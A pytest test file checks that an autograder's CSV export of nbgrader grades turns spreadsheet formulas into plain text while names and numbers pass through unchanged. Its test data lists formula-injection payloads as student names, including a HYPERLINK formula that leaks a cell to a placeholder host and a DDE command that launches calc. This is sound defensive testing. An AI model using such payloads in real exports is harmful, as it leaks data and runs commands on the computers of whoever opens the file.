"""What `nbgrader export` writes opens in a spreadsheet as text and numbers, and as nothing else."""

import csv
import re

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.course.export import SafeCsvExport, as_text

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"grades")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "\tx",
    " =1+1", "＝1+1", "Doe;=1+1", "Doe,=cmd|' /C calc'!A0", "Doe\n=1", "-1e5", "--5",
]  # fmt: skip
TEXTS = ["ada", "müller", "O'Hara, Conan", "x=1", "a-b", "ada@example.org", "", "李", "-", "Jr. (2)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text):
    for part in re.split(r"[,;|\t\r\n]", as_text(text)):
        assert not part.lstrip().startswith(tuple("=+-@＝＋－＠"))
    assert not set(as_text(text)) & set("\t\r\n")
    assert as_text(text).replace("'", "").split() == text.replace("'", "").split()


@pytest.mark.parametrize("text", [text for text in TEXTS if text != "-"])
def test_a_name_stays_as_it_is(text):
    assert as_text(text) == text


@pytest.mark.parametrize("number", [7, -1.5, 0.0, "20231234", "-3", "+4.25"])
def test_a_number_stays_a_number(number):
    assert as_text(number) == number


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    with Gradebook(f"sqlite:///{tmp_path_factory.mktemp('export')}/gradebook.db") as made:
        for assignment in ("lenet", "other"):
            made.add_assignment(assignment, duedate="2026-03-01 12:00:00 UTC")
            made.add_notebook("one", assignment)
            made.add_grade_cell("cell", "one", assignment, max_score=5, cell_type="code")
        for student in (*FORMULAS, *TEXTS):
            made.add_student(student, last_name=student)
        made.add_submission("lenet", "ada", timestamp="2026-03-01 13:00:00 UTC")
        made.find_grade("cell", "one", "lenet", "ada").manual_score = 3.5
        made.db.commit()
        yield made


def exported(book, path, plugin=SafeCsvExport, **chosen):
    plugin(to=str(path), **chosen).export(book)
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_every_student_has_one_row_an_assignment_and_no_cell_is_a_formula(book, tmp_path):
    rows = exported(book, tmp_path / "grades.csv")
    assert len(rows) == 2 * len(FORMULAS + TEXTS)
    assert {row["student_id"] for row in rows} == {as_text(student) for student in FORMULAS + TEXTS}
    assert all(None not in row and row["last_name"] == row["student_id"] for row in rows)


def test_names_that_are_plain_give_the_table_that_nbgrader_writes(book, tmp_path):
    chosen = {"student": ["ada", "müller"], "assignment": ["lenet"]}
    ours = exported(book, tmp_path / "ours.csv", **chosen)
    assert ours == exported(book, tmp_path / "stock.csv", CsvExportPlugin, **chosen)
    assert [float(row["score"]) for row in ours] == [3.5, 0] and len(ours) == 2
